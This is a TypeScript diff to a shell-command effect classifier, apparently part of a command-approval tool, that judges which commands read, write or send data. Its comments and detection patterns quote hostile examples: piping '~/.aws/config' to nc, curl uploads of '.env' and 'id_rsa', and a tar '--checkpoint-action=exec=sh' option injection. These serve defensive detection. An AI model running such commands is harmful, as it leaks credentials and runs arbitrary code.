@@ -47,6 +47,8 @@ export interface Effects {
   effects: Effect[];
   unknown?: string;
   rebuilt?: boolean;
+  /** Its only sending is a secret it prints plainly on stdout (exposure.ts): what reads its output may keep none of it. */
+  shows?: boolean;
 }
 
 /** The table with each of its space-separated keys on a row of its own. */
@@ -143,6 +145,12 @@ export function effectsOfArgv(argv: string[]): Effects {
   if (ownFile(argv[0] ?? "")) {
     const as = effectsOfArgv([name, ...all]);
     return as.effects.every((e) => e === "reads") && !PROJECT_RUNNER.test(name) ? { effects: ["unknown"], unknown: `\`${argv[0]}\`` } : as;
+  }
+  // `python manage.py check --deploy`, `php artisan route:list`: a framework's own runner is judged as itself, its
+  // options its own (the interpreter's row names none of them).
+  if (/^(?:python[\d.]*|php[\d.]*|ruby[\d.]*|node)$/.test(name)) {
+    const script = all.findIndex((a) => !a.startsWith("-"));
+    if (script >= 0 && all.slice(0, script).every((a) => /^-[BEsuOW]+$/.test(a)) && PROGRAMS.has(programName(all[script]!)) && /^(?:manage\.py|artisan)$/.test(programName(all[script]!))) return effectsOfArgv(all.slice(script));
   }
   const byName = SPECIAL[SPECIAL_BY_NAME[name] ?? name]?.(all, name, LOOK);
   if (byName) return decided(byName);
@@ -349,14 +357,17 @@ const SERVER_OPTIONS: Record<string, RegExp> = {
   gh: /^--hostname$/,
 };
 
-/** Whether a credentialed client is pointed at a server other than this machine. */
-function elsewhere(name: string, args: string[]): boolean {
+/** Database clients, whose reading statements judged here (effect-specials.ts) are all they send. */
+const DB_CLIENTS = /^(?:psql|mysql|mariadb|mongosh|redis-cli)$/;
+
+/** The servers other than this machine a credentialed client is pointed at. */
+export function serversOf(name: string, args: string[]): string[] {
   const option = SERVER_OPTIONS[name];
-  if (!option) return false;
+  if (!option) return [];
   const values = args.flatMap((a, i) => (option.test(args[i - 1] ?? "") ? [a] : option.test(a.split("=")[0]!) && a.includes("=") ? [a.slice(a.indexOf("=") + 1)] : []));
   // A connection URI or key=value string names its host too (`psql postgresql://app@db.example/app`, `"host=db.example"`).
   for (const a of args) values.push(...(/^[a-z][\w+.-]*:\/\/(?:[^@/\s]*@)?([^/:?\s]+)/i.exec(a)?.slice(1) ?? []), ...(/(?:^|\s)host=([^\s]+)/.exec(a)?.slice(1) ?? []));
-  return values.some((v) => !/^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\]|\/|unix:)/.test(v.replace(/^[a-z+]+:\/\//, "")));
+  return values.map((v) => v.replace(/^[a-z+]+:\/\//, "")).filter((v) => !/^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\]|\/|unix:)/.test(v));
 }
 
 
@@ -374,9 +385,49 @@ export function openWord(cmd: SimpleCommand, assigned: Set<string>, cwd: string)
   const xargs = (cmd.wrappers ?? []).find((w) => programName(w[0] ?? "") === "xargs");
   // (git's list of files is such paths only where no file of the folder is named like an option.)
   const paths = (f: SimpleCommand) => (programName(f.argv[0] ?? "") === "find" && findStarts(f.argv).every((s) => !s.startsWith("-"))) || (f.argv[0] === "git" && /^(?:ls-files|diff)$/.test(f.argv[1] ?? "") && !entries(cwd).some((e) => e.startsWith("-")));
-  if (xargs && !xargs.some((a) => /^-[a-zA-Z]*I|^--replace/.test(a)) && !cmd.stdinFrom.some(paths)) return "what xargs adds";
+  if (xargs && !xargs.some((a) => /^-[a-zA-Z]*I|^--replace/.test(a)) && !cmd.stdinFrom.some(paths) && !ownListing(cmd, xargs)) return "what xargs adds";
   const word = args.find((a, i) => cmd.dynamic[i + 1] && i < (args.indexOf("--") >>> 0) && (/^["']?(?:\$\(|`)/.test(a) || assigned.has(/^["']?\$\{?(\w+)/.exec(a)?.[1] ?? "")));
   return word === undefined ? undefined : `what \`${word}\` holds`;
+}
+
+/** xargs's own options that change only how many words go to each run, how they are split, and how many run at once. */
+const XARGS_PLAIN = /^(?:-0|-r|-t|--null|--no-run-if-empty|--verbose|-[nLP]\d+|-[nLP]|--max-args=\d+|--max-procs=\d+|--max-lines=\d+|-d|--delimiter=.*|\d+|\\n|\n)$/;
+
+/**
+ * Listings whose names no tool lets start with `-`: Helm releases (DNS names), Terraform addresses, Kubernetes
+ * `kind/name`, container and image ids (`-q`), a forge's run, pull request and issue numbers. (Not files, keys or
+ * objects: a file may be named `--output=…`.)
+ */
+const NAME_LISTINGS = /^(?:helm (?:list|ls)|(?:terraform|tofu) (?:state list|workspace list)|(?:kubectl|oc) get .*(?:-o name|-oname|--output=name|-o=name)|(?:docker|podman) (?:ps|images|(?:container|image|volume|network) (?:ls|list)) (?:.* )?(?:-[a-zA-Z]*q|--quiet)|(?:gh|glab) (?:run|pr|issue|release|mr) list)\b/;
+
+/** Filters that pass on some of a listing's lines as they are: never a part of one (`grep -o`), never a word of their own. */
+const LINE_FILTERS = (c: SimpleCommand) => /^(?:grep|egrep|fgrep|head|tail|sort|uniq)$/.test(programName(c.argv[0] ?? "")) && !c.argv.slice(1).some((a) => /^-[a-zA-Z]*o|^--only-matching|^--replace|^-r$/.test(a));
+
+/** jq taking out one field of each entry (`.[].databaseId`, `.items[] | .name`): no text of its own added. */
+const FIELD_OF_EACH = (c: SimpleCommand) => /^(?:jq|gojq)$/.test(programName(c.argv[0] ?? "")) && c.argv.slice(1).every((a) => /^-[rc]+$/.test(a) || /^\s*\.[\w]*(?:\[\])?(?:\s*\|\s*)?(?:\.[\w]+(?:\[\])?)*\s*$/.test(a)) && c.argv.slice(1).some((a) => /^-[a-z]*r/.test(a));
+
+/**
+ * Whether xargs hands `cmd` only names its own program listed (`helm ls -q | xargs -n1 helm status`, `terraform state
+ * list | grep web | xargs -n1 terraform state show`), and `cmd` reads whichever name it is given.
+ */
+function ownListing(cmd: SimpleCommand, xargs: string[]): boolean {
+  const [first, ...rest] = cmd.stdinFrom;
+  const name = programName(cmd.argv[0] ?? "");
+  if (!first || programName(first.argv[0] ?? "") !== name || !NAME_LISTINGS.test([name, ...first.argv.slice(1)].join(" ")) || ownFile(cmd.argv[0] ?? "")) return false;
+  if (!xargs.slice(1).every((a) => XARGS_PLAIN.test(a))) return false;
+  const plain = (c: SimpleCommand) => !c.dynamic.some(Boolean) && !c.argsFrom.length && !(c.wrappers ?? []).length && c.redirects.every((r) => NOWHERE.test(r.target) || /^&?[12]$/.test(r.target));
+  const reads = (argv: string[]) => effectsOfArgv(argv).effects.every((e) => e === "reads");
+  if (![first, ...rest].every((c) => plain(c) && reads(c.argv)) || !rest.every((c) => LINE_FILTERS(c) || FIELD_OF_EACH(c))) return false;
+  // (A forge's listing as a table carries titles anyone may write: only its numbers, taken out of its JSON, are names.)
+  if (/^(?:gh|glab)$/.test(name) && !rest.some((c) => FIELD_OF_EACH(c) && c.argv.slice(1).some((a) => /\.(?:databaseId|id|number|iid)\s*$/.test(a)))) return false;
+  return !cmd.dynamic.some(Boolean) && reads([...cmd.argv, "name"]) && reads([...cmd.argv, "name", "other"]);
+}
+
+/** Whether xargs (with no -I, which places the words itself) adds to `cmd` only paths a find printed, each starting with where it looked. */
+function foundPaths(cmd: SimpleCommand): boolean {
+  const xargs = (cmd.wrappers ?? []).find((w) => programName(w[0] ?? "") === "xargs");
+  const [feeder] = cmd.stdinFrom;
+  return xargs !== undefined && !xargs.some((a) => /^-[a-zA-Z]*[IaE]|^--(?:replace|arg-file|eof)/.test(a)) && cmd.stdinFrom.length === 1 && programName(feeder!.argv[0] ?? "") === "find" && findStarts(feeder!.argv).every((s) => !s.startsWith("-")) && !feeder!.argv.some((a) => /^-(?:exec|execdir|ok|okdir|delete|fprint\w*|fls)$/.test(a));
 }
 
 /** Programs a project keeps in its own folder to run its code (`bin/rails`, `./gradlew`, `node_modules/.bin/jest`). */
@@ -444,10 +495,19 @@ function entries(dir: string): string[] {
  * (`-c`, `-m`, `-e`, `-f`, `--command`), and for an interpreter no script but `-` (`python3 evil.py <<< x` runs evil.py).
  */
 function readsFromInput(argv: string[]): boolean {
-  const args = argv.slice(1);
+  // (A database client's options that only set how it prints or that it opens the file read-only: `sqlite3 -readonly`, `psql -X -At`.)
+  // (sqlite3's -A is its archive mode, which extracts files: the short letters are psql's and mysql's.)
+  const client = programName(argv[0] ?? "");
+  const args = argv.slice(1).filter((a) => !(DB_INPUT.test(client) && (DB_PRINT_OPTION.test(a) || (/^(?:psql|mysql|mariadb)$/.test(client) && /^-[AtqXxH]+$/.test(a)))));
+  if (client === "sqlite3" && args.some((a) => /^-A|^--?append$/.test(a))) return false;
   if (args.some((a) => /^-(?:[a-zA-Z]*[cmesfEixIX]|-(?:command|file|eval|execute|exec|init|require|import|load|source)\b)/.test(a))) return false;
   return !/^(?:python[\d.]*|pypy[\d.]*|node|nodejs|deno|bun|ruby[\d.]*|perl[\d.]*|php[\d.]*|lua[\d.]*|Rscript|julia|bash|sh|zsh|dash)$/.test(programName(argv[0] ?? "")) || args.every((a) => a.startsWith("-"));
 }
+
+/** Clients that read statements on stdin. */
+const DB_INPUT = /^(?:psql|mysql|mariadb|sqlite3|duckdb)$/;
+/** Their options that change only how they print, or open a database read-only. */
+const DB_PRINT_OPTION = /^(?:-readonly|-header|-noheader|-column|-csv|-json|-box|-table|-line|-list|-markdown|-html|-quote|-tabs|-bail|-batch|-safe|--(?:no-psqlrc|tuples-only|no-align|quiet|expanded|table|batch|raw|silent|vertical|html|xml|skip-column-names))$/;
 
 /** What a pipe's earlier stages surely print, when they are one echo or printf of words known now. */
 export function printed(stages: SimpleCommand[]): string | undefined {
@@ -498,17 +558,20 @@ export function decoded(text: string, echo: boolean): { text: string; unknown: b
 /** What a command prints once its escapes are undone; undefined where one is unknown, so nothing is judged as text it is not. */
 const unescaped = (text: string, echo: boolean) => ((d) => (d.unknown ? undefined : d.text))(decoded(text, echo));
 
+const NO_HOSTS: ReadonlySet<string> = new Set();
+
 /**
  * What `cmd` does, run in `cwd`: its program's effects, made worse where it
  * writes outside the folder, replaces a file, runs under `sudo` or `nohup`, or
  * in the background.
  */
-export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
+export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<string> = NO_HOSTS): Effects {
   // `python3 - <<'EOF'`, `psql app <<'SQL'`: what the line gives it to read is judged as what it is.
   // (So is what a plain echo or printf before it in the pipe prints: `printf 'SELECT 1;\n' | psql app`.)
   const text = cmd.stdinText !== undefined && !cmd.stdinFrom.length ? cmd.stdinText : printed(cmd.stdinFrom);
   const fed = text !== undefined && readsFromInput(cmd.argv) && readsOnlyInput(programName(cmd.argv[0] ?? ""), text);
-  const found: Effects = fed ? { effects: ["reads"] } : cmd.argv.length ? effectsOfArgv(cmd.argv) : { effects: [] };
+  // What xargs runs on the paths a find printed is judged with one of them added (`find app -name '*.php' | xargs -n1 php -l`).
+  const found: Effects = fed ? { effects: ["reads"] } : cmd.argv.length ? effectsOfArgv(foundPaths(cmd) ? [...cmd.argv, "./found"] : cmd.argv) : { effects: [] };
   const effects = new Set(found.effects);
   const name = programName(cmd.argv[0] ?? "");
   const args = cmd.argv.slice(1);
@@ -518,8 +581,10 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   const feeders = cmd.repeated ? [...cmd.stdinFrom, ...cmd.argsFrom].filter((f) => programName(f.argv[0] ?? "") === "find").flatMap((f) => findStarts(f.argv)) : [];
   // An option's value is a place too, glued on or not (`--dir=/etc`, `-C/etc`).
   // (`--coverage.reportsDirectory=/x` and a `key=/x` word, `--reporter-option output=/x`, name places too.)
+  // (cmake's -D sets a cache variable, which names where it looks for what it builds with, not where it writes: only
+  // the output and install folders it is told are places.)
   const places = [
-    ...args.flatMap((a, i) => (a.startsWith("-") ? ((/^--?[\w.-]+=(.+)$/.exec(a) ?? /^-[a-zA-Z]+([/~].*)$/.exec(a))?.slice(1) ?? []) : cmd.dynamic[i + 1] ? ["$"] : [a, ...(/^[\w.-]+=([/~.].*)$/.exec(a)?.slice(1) ?? [])])),
+    ...args.flatMap((a, i) => (name === "cmake" && /^-D(?![\w]*(?:OUTPUT_DIRECTORY|INSTALL_PREFIX|_PREFIX|BINARY_DIR)\b)[\w]+(?::\w+)?=/.test(a) ? [] : a.startsWith("-") ? ((/^--?[\w.-]+=(.+)$/.exec(a) ?? /^-[a-zA-Z]+([/~].*)$/.exec(a))?.slice(1) ?? []) : cmd.dynamic[i + 1] ? ["$"] : [a, ...(/^[\w.-]+=([/~.].*)$/.exec(a)?.slice(1) ?? [])])),
     ...(cmd.over ?? []),
     ...feeders,
   ];
@@ -549,7 +614,9 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
     else if (isFile(join(cwd, file)) && !regenerable([file], cwd)) effects.add("deletes");
     else if (!effects.has("reads") || effects.size > 1) effects.add("writes");
   }
-  if (NETWORK.test(name) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.length)) effects.add("sends");
+  // (A word folded from a constant, `$(printf '%s' gi t)`, `$(date +%F)`, carries nothing of here.)
+  const constant = (f: SimpleCommand) => /^(?:echo|printf|date)$/.test(f.argv[0] ?? "") && !f.dynamic.some(Boolean) && !f.argsFrom.length && !f.stdinFrom.length && !f.redirects.length && !(f.wrappers ?? []).length;
+  if (NETWORK.test(name) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.some((f) => !constant(f)))) effects.add("sends");
   // What ssh's own options do here, whatever the remote runs: the agent or the environment handed to the host (`-A`,
   // `SendEnv`), a master left running (`-f`, `-M`, `ControlPersist`), a log written where `-E` says.
   for (const w of cmd.wrappers ?? []) {
@@ -570,7 +637,12 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   if (/^(?:dig|nslookup|host|wget|curl|aria2c|nc|ncat|ping)$/.test(name) && args.some((a, i) => /^(?:-f|-i|--input-file|--file)$/.test(args[i - 1] ?? "") && exists(a, cwd))) effects.add("sends");
   // A client that carries your credentials, pointed at another server (`kubectl --server=…`, `vault read -address=…`,
   // `npm --registry=…`, `psql -h …`): what it sends there is yours.
-  if (elsewhere(name, args)) effects.add("sends");
+  // A database client asked only to read, every word known now, at a server the person named themselves (`hosts`, from
+  // the command they typed): the statement carries nothing of here. (Any other server may ask for the password in the
+  // clear, and psql hands it PGPASSWORD.)
+  const servers = serversOf(name, args);
+  const asksOnly = servers.every((h) => hosts.has(h)) && DB_CLIENTS.test(name) && found.effects.every((e) => e === "reads") && !cmd.dynamic.some(Boolean) && !cmd.argsFrom.length && (fed || (!cmd.stdinFrom.length && cmd.stdinText === undefined)) && !cmd.redirects.some((r) => r.op.startsWith("<"));
+  if (servers.length && !asksOnly) effects.add("sends");
   // A file an HTTP client is told to read (`-H @.env`, `--data-ascii @key`, `-F f=@id_rsa`) goes out with the request.
   if (/^(?:curl|http|https|xh)$/.test(name) && args.some((a, i) => /^-[a-zA-Z]*@|^@|=@|^[\w-]+=?<\S/.test(a) || (/^--variable$/.test(args[i - 1] ?? "") && /[@%]/.test(a)) || /^--variable=.*[@%]/.test(a))) effects.add("sends");
   // An option that names a program for this one to run (`--upload-pack=…`, `--rsh-command`, `--script-shell`, `--use-askpass`).
@@ -582,7 +654,8 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   // man -P names its pager.
   if (name === "man" && hasOption(args, "-P -H")) effects.add("runs");
   // What a network client is given to read (a pipe, a here-document, `< file`) leaves with it (`cat ~/.aws/config | nc host 9999`).
-  if (sendsInput(name, args) && (cmd.stdinFrom.length || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<") && !NOWHERE.test(r.target)))) effects.add("sends");
+  // (Words the plan itself prints, every one known now, are no data of here: `echo | openssl s_client -connect …`.)
+  if (sendsInput(name, args) && ((cmd.stdinFrom.length && printed(cmd.stdinFrom) === undefined) || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<") && !NOWHERE.test(r.target)))) effects.add("sends");
   if (name === "tee" && !args.some((a) => /^-[a-zA-Z]*a|^--append/.test(a)) && args.some((a) => !a.startsWith("-") && !NOWHERE.test(a) && exists(a, cwd))) effects.add("deletes");
   // Deleting a build's output (`rm -rf dist`), every word known when aye judges it, only writes.
   let rebuilt = DELETERS.test(name) && effects.has("deletes") && !cmd.dynamic.slice(1).some(Boolean) && regenerable(args.filter((a) => !a.startsWith("-")), cwd);
@@ -600,7 +673,11 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   // Named however it is spelt (`.git/./config`, `.git//hooks/x`), or copied into such a folder (`cp pc .git/hooks/`).
   const copiedInto = COPIERS.test(name) && operands.length > 1 && /\/$/.test(operands.at(-1)!) ? operands.slice(0, -1).map((o) => join(operands.at(-1)!, basename(o))) : [];
   if (changesSettings(cmd, name, args, operands, [...written, ...copiedInto])) effects.add("settings");
-  if (exposes(cmd, name, args, written, cwd)) effects.add("sends");
+  const sentBefore = effects.has("sends");
+  // (A dry run copies nothing, unless to another host, which it still tells what it would send.)
+  const copies = !found.effects.every((e) => e === "reads") || cmd.redirects.some((r) => />/.test(r.op)) || args.some((a) => /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)|^\w+:\/\//.test(a));
+  const exposure = exposes(cmd, name, args, written, cwd, copies);
+  if (exposure) effects.add("sends");
   // A file named like an option (`touch -- --checkpoint-action=exec=sh`), which a later `tar -cf x.tar *` reads as one;
   // and a bare glob where such a file is already.
   const dd = args.indexOf("--");
@@ -646,5 +723,9 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
     if (cmd.stdinFrom.length || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<"))) effects.add("sends");
   }
   if (cmd.background) effects.add("outlives");
-  return { effects: [...effects], ...(found.unknown ? { unknown: found.unknown } : {}), ...(rebuilt ? { rebuilt } : {}) };
+  // What it sends is only a secret it prints as it is, on its stdout: a filter after it that keeps names takes it out.
+  // (`env` alone is read as a wrapper with nothing to run.)
+  const bareEnv = !cmd.argv.length && wrappers.length === 1 && wrappers[0]!.length === 1 && /^(?:env|printenv)$/.test(programName(wrappers[0]![0]!));
+  const shows = exposure === "plainly" && !sentBefore && (!wrappers.length || bareEnv) && !cmd.background && effects.has("sends") && cmd.redirects.every((r) => !/>/.test(r.op) || /^2/.test(r.op));
+  return { effects: [...effects], ...(found.unknown ? { unknown: found.unknown } : {}), ...(rebuilt ? { rebuilt } : {}), ...(shows ? { shows } : {}) };
 }
